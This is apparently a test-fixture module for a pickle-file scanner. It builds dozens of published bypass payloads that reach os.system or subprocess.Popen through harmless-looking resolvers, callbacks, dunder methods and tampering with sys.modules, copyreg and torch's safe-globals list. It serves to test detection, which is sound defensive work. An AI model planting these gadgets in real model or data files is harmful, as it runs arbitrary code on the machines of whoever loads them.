"""Calls and changes that run code although the name called is harmless to look at, each out of a published bypass."""

from __future__ import annotations

from collections.abc import Callable

from fixtures.assemble import P4, Ops, discard

from .payloads import COMMAND

_NAMED = P4.name("os", "system")
RESOLVERS: dict[str, Ops] = {
    "pkgutil.resolve_name": P4.call("pkgutil:resolve_name", "os:system"),
    "importlib.import_module": P4.call("importlib:import_module", "os"),
    "builtins.__import__": P4.call("builtins:__import__", "os"),
    "pydoc.locate": P4.call("pydoc:locate", "os.system"),
    "inspect.getattr_static": P4.call("inspect:getattr_static", P4.call("importlib:import_module", "os"), "system"),
    "builtins.getattr": P4.call("builtins:getattr", P4.name("torch", "serialization"), "os"),
    "builtins.getattr-trusted-class": P4.call("builtins:getattr", P4.name("collections", "OrderedDict"), "__init__"),
    "operator.attrgetter": P4.call(P4.call("operator:attrgetter", "os.system"), P4.name("torch", "serialization")),
    "operator.methodcaller": P4.call(
        P4.call("operator:methodcaller", "system", COMMAND), P4.call("builtins:__import__", "os")
    ),
    "operator.call": P4.call("operator:call", _NAMED, COMMAND),
    "string.Formatter.get_field": P4.call("string:Formatter.get_field", P4.call("string:Formatter"), "0.x", [], {}),
    "unittest.mock._get_target": P4.call("unittest.mock:_get_target", "os.system"),
    "unittest.mock._importer": P4.call("unittest.mock:_importer", "os"),
    "numpy._wrapfunc": P4.call(
        "numpy._core.fromnumeric:_wrapfunc", P4.call("builtins:__import__", "os"), "system", COMMAND
    ),
    "transformers.getattribute_from_module": P4.call(
        "transformers.models.auto.auto_factory:getattribute_from_module", P4.call("builtins:__import__", "os"), "system"
    ),
    "str.format": P4.call("builtins:str.format", "{0.__globals__}", _NAMED),
    "str.format_map": P4.call("builtins:str.format_map", "{a.__class__}", {"a": _NAMED}),
    "torch._import_dotted_name": P4.call("torch._utils:_import_dotted_name", "os.system"),
    "logging.config._resolve": P4.call("logging.config:_resolve", "os.system"),
    "xmlrpc.resolve_dotted_attribute": P4.call("xmlrpc.server:resolve_dotted_attribute", _NAMED, "__self__"),
    "site.__dict__.get": P4.call("site:__dict__.get", "os"),
    "builtins.vars": P4.call("builtins:vars", P4.name("torch", "serialization")),
    "builtins.globals": P4.call("builtins:globals"),
}
CALLBACKS: dict[str, Ops] = {
    "partial": P4.call(P4.call("functools:partial", _NAMED, COMMAND)),
    "partial-state": P4.call(
        P4.build(P4.newobj("functools:partial", P4.name("builtins", "int")), P4.tuple_of(_NAMED, (COMMAND,), {}, {}))
    ),
    "reduce": P4.call(
        "functools:reduce", P4.name("builtins", "getattr"), ["system"], P4.call("builtins:__import__", "os")
    ),
    "cmp_to_key": P4.call("builtins:sorted", [1, 2], P4.call("functools:cmp_to_key", _NAMED)),
    "lru_cache": P4.call(P4.call("functools:lru_cache", _NAMED), COMMAND),
    "map-list": P4.call("builtins:list", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-tuple": P4.call("builtins:tuple", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-set": P4.call("builtins:set", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-frozenset": P4.call("builtins:frozenset", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-bytearray": P4.call("builtins:bytearray", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-dict": P4.call("builtins:dict", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-ordered-dict": P4.call("collections:OrderedDict", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-counter": P4.call("collections:Counter", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-deque": P4.call("collections:deque", P4.call("builtins:map", _NAMED, [COMMAND])),
    "map-append": P4.build(P4.call("collections:deque"), P4.call("builtins:map", _NAMED, [COMMAND])),
    "filter-list": P4.call("builtins:list", P4.call("builtins:filter", _NAMED, [COMMAND])),
    "filter-next": P4.call("builtins:next", P4.call("builtins:filter", _NAMED, [COMMAND])),
    "starmap": P4.call("builtins:list", P4.call("itertools:starmap", _NAMED, [(COMMAND,)])),
    "accumulate": P4.call("collections:deque", P4.call("itertools:accumulate", [COMMAND, "x"], _NAMED)),
    "takewhile": P4.call("builtins:list", P4.call("itertools:takewhile", _NAMED, [COMMAND])),
    "groupby": P4.call("builtins:dict", P4.call("itertools:groupby", [COMMAND], _NAMED)),
    "defaultdict": P4.call("collections:defaultdict", _NAMED),
    "defaultdict-missing": P4.call(
        "collections:defaultdict.__missing__", P4.call("collections:defaultdict", _NAMED), 1
    ),
    "finalize": P4.call("weakref:finalize", P4.call("collections:OrderedDict"), _NAMED, COMMAND),
    "weakref": P4.call("weakref:ref", P4.call("collections:OrderedDict"), _NAMED),
    "atexit": P4.call("atexit:register", _NAMED, COMMAND),
    "scheduler": P4.call("sched:scheduler.enter", P4.call("sched:scheduler"), 0, 0, _NAMED, (COMMAND,)),
    "exit-stack": P4.call("contextlib:ExitStack.callback", P4.call("contextlib:ExitStack"), _NAMED, COMMAND),
    "context-run": P4.call("contextvars:Context.run", P4.call("contextvars:Context"), _NAMED, COMMAND),
    "executor": P4.call(
        "concurrent.futures:ThreadPoolExecutor.submit",
        P4.call("concurrent.futures:ThreadPoolExecutor"),
        _NAMED,
        COMMAND,
    ),
    "future": P4.call("concurrent.futures:Future.add_done_callback", P4.call("concurrent.futures:Future"), _NAMED),
    "logging-filter": P4.build(P4.call("logging:Filter"), {"filter": _NAMED}),
    "logging-handler": P4.append(P4.name("logging", "root.handlers"), _NAMED),
    "re-sub": P4.call("re:sub", "x", _NAMED, "x"),
    "mock": P4.call(P4.build(P4.newobj("unittest.mock:Mock"), {"_mock_side_effect": _NAMED})),
    "signal": P4.call("signal:signal", 14, _NAMED),
    "settrace": P4.call("sys:settrace", _NAMED),
    "thread": P4.call("threading:Thread.start", P4.call("threading:Thread", None, _NAMED, None, (COMMAND,))),
    "timer": P4.call("threading:Timer.run", P4.call("threading:Timer", 0, _NAMED, (COMMAND,))),
    "property": P4.call("builtins:property.__get__", P4.call("builtins:property", _NAMED), COMMAND),
    "generator-next": P4.call("builtins:next", P4.call("builtins:iter", _NAMED, 1)),
    "max-key": P4.newobj_ex("builtins:max", ([COMMAND],), {"key": _NAMED}),
    "sorted-key": P4.newobj_ex("builtins:sorted", ([COMMAND],), {"key": _NAMED}),
    "rebuild-from-type": P4.call(
        "torch._tensor:_rebuild_from_type_v2", _NAMED, P4.name("torch", "Tensor"), (COMMAND,), {}
    ),
    "backward-hooks": P4.call(
        "torch._utils:_rebuild_parameter", P4.call("os:system", COMMAND), True, P4.call("collections:OrderedDict")
    ),
    "hooks-of-calls": P4.call("torch._utils:_rebuild_parameter", None, True, P4.dict_of({"a": _NAMED})),
    "scipy-lambda": P4.call(
        "scipy._lib._util:MapWrapper.__call__", P4.call("scipy._lib._util:MapWrapper"), _NAMED, [COMMAND]
    ),
    "sklearn-function": P4.build(
        P4.newobj("sklearn.preprocessing._function_transformer:FunctionTransformer"), {"func": _NAMED}
    ),
    "numpy-vectorize": P4.call(P4.call("numpy:vectorize", _NAMED), [COMMAND]),
    "numpy-frompyfunc": P4.call(P4.call("numpy:frompyfunc", _NAMED, 1, 1), [COMMAND]),
    "numpy-ndarray-pointers": P4.call("numpy:ndarray", (1,), P4.call("numpy:dtype", "O8", False, True), bytes(8)),
    "numpy-ndarray-structured": P4.call("numpy:ndarray", (1,), P4.call("numpy:dtype", "V8", False, True), bytes(8)),
    "copyreg-reconstructor": P4.call(
        "copyreg:_reconstructor", P4.name("subprocess", "Popen"), P4.name("builtins", "object"), None
    ),
    "copyreg-reconstructor-base": P4.call(
        "copyreg:_reconstructor", P4.name("collections", "OrderedDict"), P4.name("subprocess", "Popen"), "x"
    ),
    "copyreg-newobj": P4.call("copyreg:__newobj__", P4.name("subprocess", "Popen"), "true"),
    "numpy-reconstruct": P4.call("numpy._core.multiarray:_reconstruct", P4.name("subprocess", "Popen"), (0,), b"b"),
    "scalar-object": P4.call(
        "numpy._core.multiarray:scalar", P4.call("numpy:dtype", "O8", False, True), b"cos\nsystem\n)R."
    ),
}


def _type(members: dict[object, object]) -> Ops:
    return P4.call("builtins:type", "Shape", P4.tuple_of(P4.name("builtins", "object")), P4.dict_of(members))


_PROTOCOLS: dict[str, Callable[[Ops], Ops]] = {
    "__del__": lambda kind: P4.call(kind),
    "__hash__": lambda kind: P4.dict_of({P4.call(kind): 1}),
    "__eq__": lambda kind: Ops(b"\x8f(" + P4.call(kind) + P4.call(kind) + b"\x90"),
    "__reduce__": lambda kind: P4.call(kind),
    "__setstate__": lambda kind: P4.build(P4.newobj(kind), {}),
    "__new__": lambda kind: P4.newobj(kind),
    "__init_subclass__": lambda kind: P4.call("builtins:type", "Sub", P4.tuple_of(kind), {}),
    "__set_name__": lambda kind: _type({"member": P4.call(kind)}),
    "__getattr__": lambda kind: P4.call("builtins:getattr", P4.call(kind), COMMAND),
    "__setitem__": lambda kind: P4.set_item(P4.call(kind), COMMAND, 1),
    "append": lambda kind: P4.append(P4.call(kind), COMMAND),
    "extend": lambda kind: Ops(P4.call(kind) + b"(" + P4.text(COMMAND) + b"e"),
    "add": lambda kind: Ops(P4.call(kind) + b"(" + P4.text(COMMAND) + b"\x90"),
    "__len__": lambda kind: P4.call("builtins:len", P4.call(kind)),
    "__iter__": lambda kind: P4.call("builtins:list", P4.call(kind)),
    "__next__": lambda kind: P4.call("builtins:next", P4.call(kind)),
    "__repr__": lambda kind: P4.call("builtins:repr", P4.call(kind)),
    "__str__": lambda kind: P4.call("builtins:str", P4.call(kind)),
    "__format__": lambda kind: P4.call("builtins:format", P4.call(kind), COMMAND),
    "__lt__": lambda kind: P4.call("builtins:sorted", P4.list_of(P4.call(kind), P4.call(kind))),
    "__gt__": lambda kind: P4.call("builtins:max", P4.call(kind), P4.call(kind)),
    "__add__": lambda kind: P4.call("builtins:sum", P4.list_of(P4.call(kind), 1)),
    "__index__": lambda kind: P4.call("operator:index", P4.call(kind)),
    "__bool__": lambda kind: P4.call("builtins:bool", P4.call(kind)),
    "__call__": lambda kind: P4.call(P4.call(kind), COMMAND),
    "__contains__": lambda kind: P4.call("operator:contains", P4.call(kind), COMMAND),
    "__enter__": lambda kind: P4.call(
        "contextlib:ExitStack.enter_context", P4.call("contextlib:ExitStack"), P4.call(kind)
    ),
    "__fspath__": lambda kind: P4.call("pathlib:PosixPath", P4.call(kind)),
    "__array__": lambda kind: P4.call("numpy:asarray", P4.call(kind)),
    "__missing__": lambda kind: P4.call("operator:getitem", P4.call(kind), COMMAND),
}
DYNAMIC = {f"type{name}": use(_type({name: _NAMED})) for name, use in _PROTOCOLS.items()}
DYNAMIC |= {
    "enum": P4.call("enum:EnumMeta", "E", P4.tuple_of(P4.name("enum", "Enum")), {}),
    "namedtuple": P4.call("collections:namedtuple", "T", "x"),
    "dataclass": P4.call("dataclasses:make_dataclass", "D", ["x"]),
    "dataclass-create": P4.call("dataclasses:_create_fn", "f", [], ["pass"]),
    "types-new-class": P4.call("types:new_class", "C"),
    "code": P4.call(
        "types:FunctionType",
        P4.call("types:CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "f", "f", "f", 0, b"", b""),
        {},
    ),
    "marshal": P4.call(P4.call("types:FunctionType", P4.call("marshal:loads", b"N"), {})),
    "lambda-type": P4.call("types:LambdaType", P4.call("marshal:loads", b"N"), {}),
    "compile": P4.call("builtins:exec", P4.call("builtins:compile", "pass", "x", "exec")),
    "cloudpickle-function": P4.call(
        "cloudpickle.cloudpickle:_make_function", P4.call("cloudpickle.cloudpickle:_builtin_type", "CodeType")
    ),
    "cloudpickle-skeleton": P4.call(
        "cloudpickle.cloudpickle:_make_skeleton_class", P4.name("builtins", "type"), "C", (), {}, None, None
    ),
    "dill-function": P4.call("dill._dill:_create_function", P4.call("dill._dill:_create_code", b"N"), {}, "f"),
    "dill-type": P4.call("dill._dill:_create_type", P4.name("builtins", "type"), "C", (), {}),
    "torch-graph-module": P4.call(
        "torch.fx.graph_module:reduce_graph_module", {"_code": "def forward(self):\n    pass\n"}, "import torch"
    ),
    "torch-package": P4.call("torch.fx.graph_module:reduce_package_graph_module", "x", {"_code": "pass"}, "m"),
    "generator-code": P4.call("types:CodeType.replace", P4.call("marshal:loads", b"N")),
}
_ODICT = P4.name("collections", "OrderedDict")
_INSTANCE = P4.call("collections:OrderedDict")
CHANGES: dict[str, Ops] = {
    "state-of-class": P4.build(_ODICT, {"__reduce__": _NAMED}),
    "state-of-function": P4.build(P4.name("numpy", "prod"), P4.tuple_of(None, {"__code__": None})),
    "state-of-function-globals": P4.call(
        P4.build(P4.name("numpy", "prod"), P4.tuple_of(None, {"__globals__": {}, "a": "os", "b": "system"}))
    ),
    "state-of-module": P4.build(P4.name("torch", "serialization"), {"load": _NAMED}),
    "state-of-module-dict": P4.build(P4.name("sys", "modules"), {"collections": None}),
    "state-of-trusted-rebuild": P4.build(P4.name("torch._utils", "_rebuild_tensor_v2"), {"__wrapped__": _NAMED}),
    "state-of-code": P4.build(P4.name("collections", "OrderedDict.__init__"), P4.tuple_of(None, {"__code__": None})),
    "slots-class": P4.build(_INSTANCE, P4.tuple_of(None, {"__class__": _NAMED})),
    "slots-code": P4.build(P4.name("numpy", "prod"), P4.tuple_of(None, {"__code__": None, "__defaults__": ()})),
    "slots-setstate": P4.build(P4.build(_ODICT, P4.tuple_of(None, {"__setstate__": _NAMED})), {"a": COMMAND}),
    "slots-defaults": P4.build(P4.name("torch._utils", "_rebuild_tensor"), P4.tuple_of(None, {"__defaults__": (1,)})),
    "slots-of-module-class": P4.build(
        P4.newobj("torch.nn.modules.linear:Linear"), P4.tuple_of({}, {"forward": _NAMED, "__class__": _NAMED})
    ),
    "dunder-in-dict": P4.build(P4.newobj("torch.nn.modules.linear:Linear"), {"__class__": _NAMED, "__call__": _NAMED}),
    "state-with-call": P4.build(P4.newobj("torch.nn.modules.linear:Linear"), {"weight": P4.call(_NAMED, COMMAND)}),
    "state-with-function": P4.build(P4.newobj("torch.nn.modules.linear:Linear"), {"forward": _NAMED}),
    "state-of-unknown-class": P4.build(P4.newobj("weighbridge_unlisted:Model"), {"command": COMMAND}),
    "state-of-popen": P4.build(P4.newobj("subprocess:Popen"), {"returncode": 0}),
    "state-of-persistent": P4.build(Ops(b"P0\n"), {"a": 1}),
    "item-sys-modules": P4.set_item(P4.name("sys", "modules"), "collections", P4.name("os", "path")),
    "item-environ": P4.set_item(P4.name("os", "environ"), "PATH", "/"),
    "item-torch-dict": P4.set_item(P4.name("torch", "__dict__"), "load", _NAMED),
    "item-module-dict": P4.set_item(P4.name("torch._utils", "__dict__"), "_rebuild_tensor_v2", _NAMED),
    "item-dispatch-table": P4.set_item(P4.name("copyreg", "dispatch_table"), P4.name("builtins", "int"), _NAMED),
    "item-extension-registry": P4.set_item(P4.name("copyreg", "_extension_registry"), ("os", "system"), 1),
    "item-inverted-registry": P4.set_item(P4.name("copyreg", "_inverted_registry"), 1, ("os", "system")),
    "item-extension-cache": P4.set_item(P4.name("copyreg", "_extension_cache"), 1, _NAMED),
    "item-path-cache": P4.set_item(P4.name("sys", "path_importer_cache"), "/", None),
    "item-safe-globals": P4.set_item(P4.name("torch._weights_only_unpickler", "_marked_safe_globals_set"), 1, _NAMED),
    "item-module-object": P4.set_item(P4.name("torch", "serialization"), "load", _NAMED),
    "item-class": P4.set_item(_ODICT, "a", 1),
    "item-storage": P4.set_item(
        Ops(P4.tuple_of("storage", P4.name("torch", "FloatStorage"), "0", "cpu", 4) + b"Q"), 0, 1.0
    ),
    "item-tensor": P4.set_item(
        P4.call("torch._utils:_rebuild_tensor_v2", None, 0, (1,), (1,), False, _INSTANCE), 0, 1.0
    ),
    "item-none": P4.set_item(P4.name("builtins", "None"), 0, 1.0),
    "append-handlers": P4.append(P4.name("logging", "root.handlers"), _INSTANCE),
    "append-path": P4.append(P4.name("sys", "path"), "/dev/shm"),
    "append-meta-path": P4.append(P4.name("sys", "meta_path"), _NAMED),
    "append-path-hooks": P4.append(P4.name("sys", "path_hooks"), _NAMED),
    "append-warning-filters": P4.append(P4.name("warnings", "filters"), ("ignore", None, None, None, 0)),
    "append-prefixes": P4.append(P4.name("site", "PREFIXES"), "/dev/shm"),
    "extend-path": Ops(P4.name("sys", "path") + b"(" + P4.text("/dev/shm") + b"e"),
    "add-builtin-names": Ops(P4.name("sys", "builtin_module_names") + b"(" + P4.text("x") + b"\x90"),
    "add-function": Ops(P4.name("atexit", "register") + b"(" + _NAMED + b"\x90"),
    "append-function": P4.append(_NAMED, COMMAND),
    "shadowed-ordered-dict": Ops(
        discard(P4.set_item(P4.name("sys", "modules"), "collections", _NAMED), P4.call(_ODICT))
    ),
    "shadowed-by-state": Ops(
        discard(P4.build(P4.name("collections", "abc"), {"OrderedDict": _NAMED}), P4.call(_ODICT))
    ),
    "popen-keywords": P4.newobj_ex("subprocess:Popen", (), {"args": "true", "shell": True}),
    "path-newobj": P4.newobj("pathlib:PosixPath", _NAMED),
    "result-called": P4.call(P4.call("builtins:getattr", P4.call("builtins:__import__", "os"), "system"), COMMAND),
}
